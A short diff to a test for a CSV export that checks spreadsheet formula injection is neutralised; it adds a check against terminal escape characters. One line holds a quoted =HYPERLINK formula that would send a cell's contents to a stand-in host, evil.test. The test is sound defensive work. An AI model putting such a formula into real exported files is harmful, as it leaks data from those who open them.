@@ -167,6 +167,7 @@ describe("p2 export", () => {
     expect(rows[0]).toMatch(/^time,requestId,attempt,userId,clientId,provider,model,/)
     expect(rows.join("\n")).toContain(`,"'=HYPERLINK(""http://evil.test?""&A1)",`)
     expect(output).not.toMatch(/(^|,)"?[=+@-]/m)
+    expect(output).not.toContain("\u001b")
     expect(rows.find((row) => row.includes(",bob,"))).toContain(",500000000,")
     expect(output).not.toContain(PROMPT)
   })
